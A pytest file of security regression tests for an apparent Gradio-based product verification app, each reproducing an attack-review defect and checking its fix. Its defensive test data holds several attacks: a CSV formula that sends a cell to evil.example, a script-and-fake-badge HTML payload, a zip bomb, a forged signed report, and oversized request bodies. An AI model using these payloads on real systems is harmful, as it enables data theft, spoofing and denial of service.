"""Defects found by attack reviews, each reproduced and shown fixed.

Issue 14: spreadsheet formulas in exported CSV, decomposed Unicode ids, huge text fields, raw
tracebacks, history search wildcards, staged files left behind.

Issue 25 (docs/reliability.md, "Attack review, round two"): forged case files, a server one
upload could freeze, unbounded request bodies, the queue limit bypassed, forwarded headers
believed, the audit log and deep links open, overturned checks not said, anonymous disk growth,
barcode text rendered as Markdown, login timing, cross-site changes, product fields without
limits, a tuning process per change, file errors as tracebacks, and unlimited text from codes.
Where the defect is in the app, the test runs against the real app (``running_app``, or
``strict_app`` with a small queue budget) over HTTP.
"""

from __future__ import annotations

import csv
import json
import select
import socket
import sqlite3
import subprocess
import threading
import time
import unicodedata
from pathlib import Path

import pytest
from PIL import Image

from conftest import PYTHON, ROOT, SERVER_PIDS, demo_photo

# ---- talking to the running app as a browser or a script does ------------------------------

_CONFIGS: dict[str, dict] = {}


def _dependency(url: str, name: str) -> dict:
    """The event named ``name`` (Gradio names private events too: ``page_data``, ``check_report``)."""
    import httpx

    if url not in _CONFIGS:
        _CONFIGS[url] = httpx.get(url + "config", timeout=30).json()
    for dependency in _CONFIGS[url]["dependencies"]:
        if dependency.get("api_name") == name:
            return dependency
    raise AssertionError(f"no event {name} in the app")


def event(url: str, name: str, data: list, cookies: dict | None = None, headers: dict | None = None,
          timeout: float = 120) -> list:
    """Run one of the page's events as the page does (queued ones through /queue/join and the
    event stream, browsing ones through /run/predict); its outputs, or AssertionError with the
    error it showed."""
    import uuid

    import httpx

    dependency = _dependency(url, name)
    session = uuid.uuid4().hex[:10]
    body = {"data": data, "fn_index": dependency["id"], "session_hash": session, "event_data": None,
            "trigger_id": None}
    with httpx.Client(base_url=url, cookies=cookies, headers=headers, timeout=timeout) as client:
        if not dependency["queue"]:
            response = client.post("gradio_api/run/predict", json=body)
            response.raise_for_status()
            return response.json()["data"]
        joined = client.post("gradio_api/queue/join", json=body)
        joined.raise_for_status()
        with client.stream("GET", "gradio_api/queue/data", params={"session_hash": session}) as stream:
            for line in stream.iter_lines():
                if not line.startswith("data:"):
                    continue
                message = json.loads(line[5:])
                if message.get("msg") == "process_completed":
                    if not message.get("success"):
                        raise AssertionError(message.get("output", {}).get("error") or message)
                    return message["output"]["data"]
    raise AssertionError("the event stream ended without a result")


def upload(url: str, path: Path) -> dict:
    """A file uploaded as the page uploads it; the value a File input then sends."""
    import httpx

    with open(path, "rb") as handle:
        response = httpx.post(url + "gradio_api/upload", files={"files": (path.name, handle)}, timeout=60)
    response.raise_for_status()
    return {"path": response.json()[0], "orig_name": path.name, "meta": {"_type": "gradio.FileData"}}


def login(url: str) -> dict:
    import httpx

    from conftest import ADMIN_PASSWORD, ADMIN_USER

    response = httpx.post(url + "session/login", json={"name": ADMIN_USER, "password": ADMIN_PASSWORD}, timeout=30)
    assert response.json()["outcome"] == "ok", response.text
    return {"verifier_session": response.cookies["verifier_session"]}


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


def verify_report(*args) -> subprocess.CompletedProcess:
    return subprocess.run([PYTHON, str(ROOT / "scripts" / "verify_report.py"), *map(str, args)],
                          capture_output=True, text=True, timeout=120)


def test_batch_results_csv_cells_never_run_as_spreadsheet_formulas(service, tmp_path):
    """Before: a case id =HYPERLINK(...), a claim =1+2 were written as they came."""
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    manifest = tmp_path / "listings.csv"
    with open(manifest, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["path", "claimed_product_id", "case_id"])
        writer.writerow([photo.name, "=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")'])
        writer.writerow([photo.name, "@SUM(A1)", "-2+3"])
    result = service.check_batch(str(manifest), [str(photo)])
    with open(result.csv_path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+2" in rows[0] and "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in rows[0]
    assert "'@SUM(A1)" in rows[1] and "'-2+3" in rows[1]


def test_a_claim_typed_in_decomposed_unicode_finds_the_composed_product(catalog_copy, offline_embedder, tmp_path):
    """Before: an NFD claim of an NFC id was 'not in catalog', and NFD imports made a twin product."""
    from index import Catalog, Verifier, import_references, read_products

    composed = "Sữa-Tươi-Vinamilk"
    decomposed = unicodedata.normalize("NFD", composed)
    assert composed != decomposed
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    manifest = tmp_path / "products.csv"
    manifest.write_text(f"path,product_id\n{photo},{decomposed}\n", encoding="utf-8")
    other = tmp_path / "other.jpg"
    Image.open(demo_photo("Oatly-Oat-Milk_002.jpg")).save(other, quality=80)
    (tmp_path / "more.csv").write_text(f"path,product_id\n{other},{composed}\n", encoding="utf-8")
    with Catalog.open(catalog_copy, writable=True) as catalog:
        import_references(catalog, offline_embedder, read_products(manifest, allow_outside=True), progress=False)
        import_references(catalog, offline_embedder, read_products(tmp_path / "more.csv", allow_outside=True),
                          progress=False)
        assert [p.product_id for p in catalog.products() if "Vinamilk" in p.product_id] == [composed]
    verdict = Verifier(Catalog.open(catalog_copy), offline_embedder).check([photo], claimed_product_id=decomposed)
    assert "claimed_product_not_in_catalog" not in verdict.flags and verdict.claimed_product_id == composed


def test_history_search_treats_percent_underscore_and_nul_as_text(service):
    """Before: %, _ and NUL in the search matched every check."""
    service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))], notes="plain note")
    service.check([str(demo_photo("Oatly-Oat-Milk_002.jpg"))], notes="50% off_sale")
    assert len(service.history.search("")) == 2
    assert [r.notes for r in service.history.search("%")] == ["50% off_sale"]
    assert [r.notes for r in service.history.search("_")] == ["50% off_sale"]
    assert service.history.search("\x00") == []


def test_huge_text_fields_are_refused_before_anything_is_kept(service):
    from ui.limits import LimitExceeded

    photo = str(demo_photo("Oatly-Oat-Milk_001.jpg"))
    for field in ("claimed", "inspector", "notes", "case_id"):
        with pytest.raises(LimitExceeded) as caught:
            service.check([photo], **{field: "x" * 10_000_000})
        assert caught.value.args_["field"] == field
    assert len(service.history) == 0


def test_a_manifest_with_a_giant_cell_is_refused_with_its_line(tmp_path):
    from index import ManifestError, read_queries

    manifest = tmp_path / "q.csv"
    manifest.write_text("path,claimed_product_id\na.jpg,ok\nb.jpg," + "x" * 200_000 + "\n")
    with pytest.raises(ManifestError, match="line 3"):
        read_queries(manifest)


def test_a_review_that_cannot_add_its_photos_saves_nothing(service, tmp_path):
    """Before: "a product id is needed" was shown, yet the review had been saved and audited."""
    from index.storing.audit import entries

    record = service.check([str(ROOT / "tests" / "data" / "Banana_001.jpg")])  # nothing claimed, nothing identified
    assert record.product_id is None and record.claimed_product_id is None
    with pytest.raises(ValueError, match="nothing was saved"):
        service.review("owner", record.check_id, "counterfeit", "seized", add_as="genuine", product_id="")
    assert service.history.get(record.check_id).review_verdict is None
    assert not [e for e in entries(service.catalog_dir) if e.action == "review_check"]


@pytest.mark.parametrize("kind", ["another program's database", "not a database at all"])
def test_a_folder_whose_database_is_not_a_catalog_gets_a_sentence_and_stays_untouched(tmp_path, kind):
    """Before: 'no such table: meta' and index_catalog.py wrote a meta table into the foreign file."""
    folder = tmp_path / "catalog"
    folder.mkdir()
    database = folder / "references.sqlite"
    if kind == "another program's database":
        db = sqlite3.connect(database)
        db.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        db.commit()
        db.close()
    else:
        database.write_bytes(b"PK\x03\x04 this is a zip, not SQLite" * 100)
    before = database.read_bytes()
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    (tmp_path / "p.csv").write_text(f"path,product_id\n{photo},P\n")
    for command in (["scripts/index_catalog.py", str(folder), "--manifest", str(tmp_path / "p.csv"),
                     "--allow-outside-paths"], ["scripts/verify.py", str(folder), str(photo)]):
        result = subprocess.run([PYTHON, *command], cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert "was not made by the verifier" in result.stderr or "not a catalog database" in result.stderr
    assert database.read_bytes() == before


def test_a_refused_zip_leaves_nothing_behind(service, tmp_path):
    """Before: a 1 MB zip of 1 GiB of zeros left 1 GiB in the work folder; 50,000 entries, 49,999 files."""
    import zipfile

    from ui.uploads import UploadError

    bomb = tmp_path / "zeros.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.jpg", b"\0" * (1100 * 1024**2))  # 1.1 GiB expanded, about 1 MB packed
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for i in range(service.limits.zip_files + 1):
            archive.writestr(f"p{i}.jpg", b"x")
    for upload in (bomb, many):
        with pytest.raises(UploadError):
            service.check_batch(None, [str(upload)])
    left = [p for p in (service.work_dir / "downloads").rglob("*") if p.is_file()]
    assert left == []


def test_reports_are_written_once_per_state_of_a_check(service):
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))])
    first = service.report_files(record, "vi")
    again = service.report_files(service.history.get(record.check_id), "vi")
    assert first == again
    assert len([p for p in (service.work_dir / "downloads").iterdir() if p.is_dir()]) == 1


def test_a_huge_upload_is_kept_reduced_and_named_by_what_was_uploaded(service, tmp_path):
    """Before: a 60 MB upload (a JPEG plus trailing bytes) was kept whole under checks/."""
    big = tmp_path / "padded.jpg"
    Image.open(demo_photo("Oatly-Oat-Milk_001.jpg")).resize((4000, 3000)).save(big, quality=95)
    with open(big, "ab") as handle:
        handle.write(b"\0" * 30 * 1024**2)
    record = service.check([str(big)])
    kept = record.photos[0]
    from vision.images import sha256_of

    assert kept.sha256 == sha256_of(big.read_bytes())
    assert (tmp_path / kept.path).stat().st_size < 2 * 1024**2


def test_work_folders_of_dead_app_processes_are_swept(tmp_path):
    from ui.service import WORK_PREFIX, sweep_work_dirs

    dead = tmp_path / f"{WORK_PREFIX}dead"
    (dead / "downloads").mkdir(parents=True)
    (dead / "pid").write_text("999999999")
    (dead / "downloads" / "report.html").write_text("inspector's notes")
    alive = tmp_path / f"{WORK_PREFIX}alive"
    alive.mkdir()
    import os

    (alive / "pid").write_text(str(os.getpid()))
    assert sweep_work_dirs(tmp_path) == 1
    assert not dead.exists() and alive.exists()


def test_old_checks_are_pruned_with_their_photos(service):
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))])
    service.history.db.execute("UPDATE checks SET checked_at = '2020-01-01T00:00:00Z' WHERE check_id = ?",
                               (record.check_id,))
    kept = record.photos[0].path
    assert service.history.prune(30) == 1
    assert service.history.get(record.check_id) is None
    from pathlib import Path

    assert not Path(kept).exists()


def test_the_apps_work_folder_is_removed_when_it_is_stopped(catalog_copy, tmp_path):
    """Before: the work folder (reports with inspectors' photos and notes) survived SIGTERM."""
    import tempfile
    from pathlib import Path

    from conftest import app_server
    from ui.service import WORK_PREFIX

    before = set(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*"))
    with app_server(catalog_copy, tmp_path / "app.log"):
        mine = set(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*")) - before
        assert len(mine) == 1
    # app_server stops the app with SIGTERM, as a service manager does
    assert not any(p.exists() for p in mine), (tmp_path / "app.log").read_text()[-2000:]


def test_a_manifest_row_finds_the_photo_whose_name_the_upload_rewrote(service, tmp_path):
    """Before: `stall 12: front.jpg` came back "file not found" (Gradio drops ':' from upload names)."""
    import shutil

    uploaded = tmp_path / "stall 12 front.jpg"  # the name Gradio gives the upload
    shutil.copy(demo_photo("Oatly-Oat-Milk_001.jpg"), uploaded)
    manifest = tmp_path / "listings.csv"
    manifest.write_text('path,case_id\n"stall 12: front.jpg",S12\n')
    result = service.check_batch(str(manifest), [str(uploaded)])
    [row] = result.rows
    assert row[0] == "S12" and "no_readable_photo" not in row[6]


def test_sessions_expire_when_idle_end_everywhere_on_logout_and_lock_out_by_address():
    """Before: the login was the Gradio session id (in URLs, replayable, no expiry), and five wrong
    passwords in the admin's name locked the admin out."""
    import time

    from ui.auth import MAX_FAILURES, Users
    from ui.sessions import LoginRefused, Sessions

    sessions = Sessions(Users({"VERIFIER_ADMIN_USER": "owner", "VERIFIER_ADMIN_PASSWORD": "s3cret"}), idle_s=0.5)
    laptop = sessions.login("owner", "s3cret", "10.0.0.5")
    phone = sessions.login("owner", "s3cret", "10.0.0.6")
    assert sessions.user(laptop) == sessions.user(phone) == "owner"
    assert sessions.user("a-guessed-or-replayed-token") is None
    sessions.logout(phone)
    assert sessions.user(laptop) is None and sessions.user(phone) is None  # logged out everywhere
    idle = sessions.login("owner", "s3cret", "10.0.0.5")
    time.sleep(0.7)
    assert sessions.user(idle) is None  # expired after the idle time
    for _ in range(MAX_FAILURES):
        with pytest.raises(LoginRefused):
            sessions.login("owner", "wrong", "203.0.113.9")
    with pytest.raises(LoginRefused) as caught:
        sessions.login("owner", "s3cret", "203.0.113.9")
    assert caught.value.key == "login_locked"
    assert sessions.user(sessions.login("owner", "s3cret", "10.0.0.5")) == "owner"  # the real owner is not locked out


def test_the_login_cookie_is_http_only_and_same_site_and_changes_need_it(running_app):
    import json
    import urllib.request

    from conftest import ADMIN_PASSWORD, ADMIN_USER

    url, _ = running_app
    request = urllib.request.Request(url + "session/login", method="POST", headers={"Content-Type": "application/json"},
                                     data=json.dumps({"name": ADMIN_USER, "password": ADMIN_PASSWORD}).encode())
    with urllib.request.urlopen(request, timeout=30) as response:
        cookie = response.headers["Set-Cookie"]
        assert json.loads(response.read())["outcome"] == "ok"
    assert "verifier_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
    wrong = urllib.request.Request(url + "session/login", method="POST", headers={"Content-Type": "application/json"},
                                   data=json.dumps({"name": ADMIN_USER, "password": "nope"}).encode())
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(wrong, timeout=30)
    assert caught.value.code == 401


def test_a_catalog_change_without_a_live_session_is_refused(service):
    from ui.service import NotAllowed

    token = service.sessions.login("owner", "s3cret", "127.0.0.1")
    assert service.sessions.user(token) == "owner"
    service.sessions.logout(token)
    with pytest.raises(NotAllowed):
        service.remove_product(service.sessions.user(token), "Oatly-Oat-Milk")


def test_one_address_cannot_fill_the_queue():
    """Before: 80 quick requests filled the queue of 64 and other users got 503 Queue is full."""
    from ui.fairness import JoinLimiter

    limiter = JoinLimiter(jobs=8, window_s=30)
    burst = [limiter.allow("198.51.100.7") for _ in range(80)]
    assert sum(burst) == 8  # 72 refused with a 429 and a sentence to wait, the queue keeps 56 places free
    assert limiter.allow("192.0.2.44")  # another user is not affected


def test_a_burst_of_queue_joins_is_answered_429_and_the_app_stays_up(catalog_copy, tmp_path, monkeypatch):
    import json
    import urllib.error
    import urllib.request

    from conftest import app_server

    monkeypatch.setenv("VERIFIER_MAX_QUEUE_JOBS", "5")
    with app_server(catalog_copy, tmp_path / "app.log") as url:
        codes = []
        for _ in range(12):
            request = urllib.request.Request(url + "gradio_api/queue/join", method="POST",
                                             headers={"Content-Type": "application/json"},
                                             data=json.dumps({"fn_index": 0, "data": [], "session_hash": "x"}).encode())
            try:
                with urllib.request.urlopen(request, timeout=30) as response:
                    codes.append(response.status)
            except urllib.error.HTTPError as exc:
                codes.append(exc.code)
                if exc.code == 429:
                    assert "Wait a moment" in exc.read().decode()
        assert codes.count(429) == 7  # 5 let through, the rest told to wait
        with urllib.request.urlopen(url, timeout=30) as page:
            assert page.status == 200


def test_a_catalog_made_before_originals_were_kept_migrates_from_readable_sources(catalog_copy):
    """Before: the catalog kept only thumbnails and the source path (a temporary upload folder in
    the app); now each reference's photo is kept, and older catalogs copy theirs in."""
    import shutil
    from pathlib import Path

    from index import Catalog

    shutil.rmtree(catalog_copy / "originals", ignore_errors=True)  # as a catalog made before
    with Catalog.open(catalog_copy) as catalog:
        refs = catalog.references()
        gone = refs[0]
        assert all(catalog.original_path(r) == Path(r.source_path) for r in refs)
    with sqlite3.connect(catalog_copy / "references.sqlite") as db:  # one source no longer readable
        db.execute("UPDATE refs SET source_path = ? WHERE image_id = ?", (str(catalog_copy / "gone.jpg"), gone.image_id))
    result = subprocess.run([PYTHON, "scripts/manage_catalog.py", str(catalog_copy), "keep-originals"], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert f"copied {len(refs) - 1} original photos" in result.stdout and "1 could not be found" in result.stdout
    with Catalog.open(catalog_copy) as catalog:
        kept = [catalog.original_path(r) for r in refs[1:]]
        assert all(p.parent.parent.name == "originals" and p.is_file() for p in kept)


# ---- issue 25: attack review, round two ------------------------------------------------------

#: What an attacker writes in a check's notes: a fake badge over the page and a script.
HOSTILE_NOTES = ("<div style='position:fixed;inset:0;background:#fff'><h1>GENUINE &#10004;</h1></div>"
                 "<script>document.title='pwned'</script> & <!--verification-block-->")


def test_a_json_case_file_renamed_html_is_refused_and_its_markup_is_escaped(service, running_app, tmp_path):
    """Before: a check whose notes held a fake badge and a script, its signed JSON renamed .html,
    was ✔ in Status → Check a case file and in verify_report.py, and a browser ran the script."""
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))], notes=HOSTILE_NOTES)
    html_path, json_path = service.report_files(record, "en")
    raw = json_path.read_bytes()
    assert not {ord("<"), ord(">"), ord("&")} & set(raw)  # \u003c, \u003e, \u0026: never markup
    assert b"\\u003cscript\\u003e" in raw and json.loads(raw)["notes"] == HOSTILE_NOTES
    renamed = tmp_path / json_path.with_suffix(".html").name
    renamed.write_bytes(raw)
    checked = verify_report(json_path, html_path, renamed, "--public-key", service.signing_key.public_path)
    assert checked.returncode == 1, checked.stdout
    lines = checked.stdout.splitlines()
    assert lines[0].startswith("verified") and lines[1].startswith("verified")
    assert lines[2].startswith("NOT VERIFIED") and "issued as JSON and named .html" in lines[2]

    url, _ = running_app  # the same deployment key: the app checks what the service signed
    said = {path.name: event(url, "check_report", [upload(url, path), language])[0]
            for path, language in ((json_path, "en"), (html_path, "en"), (renamed, "en"))}
    assert "issued by this system" in said[json_path.name] and "issued by this system" in said[html_path.name]
    assert "NOT VERIFIED" in said[renamed.name] and "issued as JSON and is named .html" in said[renamed.name]
    [vietnamese] = event(url, "check_report", [upload(url, renamed), "vi"])
    assert "KHÔNG HỢP LỆ" in vietnamese and "được cấp dạng JSON" in vietnamese


def test_reports_issued_before_still_verify_and_only_in_their_own_format(tmp_path):
    """Reports signed before the format was signed (CPV1: the bytes alone) still verify, in the
    format they were issued in. A JSON whose notes held the HTML placeholder, with an HTML block
    put in its place, verified as HTML before; it is refused."""
    from ui.signing import (HTML_PLACEHOLDER, JSON_PLACEHOLDER, LEGACY_PREFIX, ReportNotVerified, SigningKey,
                            html_block, verify_report)

    key = SigningKey.load_or_create(tmp_path / "keys")
    page = '<!doctype html><html lang="en"><body><p>#1</p>' + HTML_PLACEHOLDER + "</body></html>"
    old_html = page.replace(HTML_PLACEHOLDER, html_block(key.fingerprint, key.sign(page.encode()), "en",
                                                         LEGACY_PREFIX)).encode()
    text = '{\n  "notes": "<b>raw, as before</b>",\n  "verification": null\n}'
    old_json = text.replace(JSON_PLACEHOLDER, '"verification": ' + json.dumps(
        {"key": key.fingerprint, "signature": key.sign(text.encode())})).encode()
    assert verify_report(old_html, key.public, "check-1-en.html").scheme == "CPV1"
    assert verify_report(old_json, key.public, "check-1.json").scheme == "CPV1"
    for data, name in ((old_json, "check-1.html"), (old_html, "check-1.json"), (old_html, "check-1.txt")):
        with pytest.raises(ReportNotVerified):
            verify_report(data, key.public, name)
    # the forgery: an old JSON report whose notes were the HTML placeholder, the block put in its place
    notes = '{\n  "notes": "<div>GENUINE</div><script>x()</script>' + HTML_PLACEHOLDER + '",\n  "verification": null\n}'
    forged = notes.replace(HTML_PLACEHOLDER, html_block(key.fingerprint, key.sign(notes.encode()), "en",
                                                        LEGACY_PREFIX)).encode()
    for name in ("forged.html", "forged.json"):
        with pytest.raises(ReportNotVerified):
            verify_report(forged, key.public, name)


def _openers(size: int, doctype: bool = True) -> bytes:
    opener = (b'<section class="verification" data-key="0123456789abcdef" data-lang="en" data-signature="'
              + b"A" * 86 + b'">')
    return (b"<!doctype html>" if doctype else b"") + opener * (size // len(opener))


def test_a_file_of_verification_openers_is_answered_within_a_second(tmp_path):
    """Before: the `.*?` of the block's regex re-scanned from every opener: 354 KB froze the server
    6.6 s, 708 KB 20.6 s, and verify_report.py gave no answer on 1.7 MB within 60 s."""
    files = []
    for name, data in (("openers.html", _openers(1_700_000)), ("bare.html", _openers(1_700_000, doctype=False)),
                       ("openers.json", b"{" + _openers(1_700_000, doctype=False))):
        (tmp_path / name).write_bytes(data)
        files.append(tmp_path / name)
    from ui.signing import SigningKey

    key = SigningKey.load_or_create(tmp_path / "keys").public_path
    started = time.monotonic()
    checked = verify_report(*files, "--public-key", key)
    elapsed = time.monotonic() - started
    assert checked.returncode == 1 and checked.stdout.count("NOT VERIFIED") == 3, checked.stdout
    assert "verification blocks" in checked.stdout.splitlines()[0]
    assert elapsed < 3.0, elapsed  # the interpreter's start included; the check itself takes milliseconds


def test_a_hostile_case_file_in_the_app_delays_nobody(running_app, tmp_path):
    """Before: one upload of such a file to Check a case file froze the whole server."""
    url, _ = running_app
    hostile = tmp_path / "case.html"
    hostile.write_bytes(_openers(708_000))
    file = upload(url, hostile)
    answers = {}

    def check():
        started = time.monotonic()
        answers["hostile"] = event(url, "check_report", [file, "en"])[0], time.monotonic() - started

    worker = threading.Thread(target=check)
    worker.start()
    started = time.monotonic()
    status = event(url, "status_text", ["en"])[0]
    others = time.monotonic() - started
    worker.join(60)
    assert "Catalog" in status and others < 3.0, others
    said, took = answers["hostile"]
    assert "NOT VERIFIED" in said and "verification blocks" in said and took < 3.0, (said, took)


def test_case_files_are_checked_in_a_bounded_pool_with_a_size_and_time_limit(tmp_path, monkeypatch):
    import asyncio

    import ui.casefile
    from ui.casefile import CaseFileChecker
    from ui.signing import ReportNotVerified, SigningKey

    key = SigningKey.load_or_create(tmp_path / "keys")
    checker = CaseFileChecker(key.public, workers=1, waiting=1, time_limit_s=0.5, max_bytes=1024**2)
    huge = tmp_path / "huge.html"
    with open(huge, "wb") as handle:  # 60 MB, sparse: refused by its size, never read
        handle.truncate(60 * 1024**2)
    with pytest.raises(ReportNotVerified) as caught:
        asyncio.run(checker.check(huge))
    assert caught.value.reason == "too_large"

    def slow(*args, **kwargs):  # a check that would not end on its own
        time.sleep(1.5)
        raise ReportNotVerified("slow", "changed")

    monkeypatch.setattr(ui.casefile, "verify_report", slow)
    small = tmp_path / "small.html"
    small.write_bytes(b"<!doctype html>")

    async def three_at_once():
        return await asyncio.gather(*(checker.check(small) for _ in range(3)), return_exceptions=True)

    started = time.monotonic()
    reasons = sorted(r.reason for r in asyncio.run(three_at_once()))
    assert reasons == ["busy", "timeout", "timeout"] and time.monotonic() - started < 1.4


def test_request_bodies_are_limited_as_they_arrive(running_app):
    """Before: an 800 MB body to /session/login cost +1.53 GB, and a 400 MB one to
    /gradio_api/run/predict +1.19 GB, before any size check. Now a declared length over the route's
    limit is answered 413 before the body is sent, and a streamed one is cut off as it passes it."""
    url, _ = running_app
    pid = SERVER_PIDS[url]
    port = int(url.rstrip("/").rsplit(":", 1)[1])
    before = rss_mb(pid)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(b"POST /session/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 838860800\r\n\r\n")
        assert sock.recv(64).startswith(b"HTTP/1.1 413")  # the 800 MB were never sent
    chunk = b"x" * 65536
    frame = b"%x\r\n" % len(chunk) + chunk + b"\r\n"
    for path in ("/gradio_api/run/predict", "/gradio_api/queue/join", "/session/login"):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                         "Transfer-Encoding: chunked\r\n\r\n".encode())
            sent = 0
            while sent < 200 * 1024**2 and not select.select([sock], [], [], 0)[0]:
                try:
                    sock.sendall(frame)
                except OSError:  # the server closed the connection after its answer
                    break
                sent += len(chunk)
            answer = sock.recv(64)
        assert answer.startswith(b"HTTP/1.1 413"), (path, answer)
        assert sent < 32 * 1024**2, (path, sent)  # the answer came while the body was still being sent
    assert rss_mb(pid) - before < 64
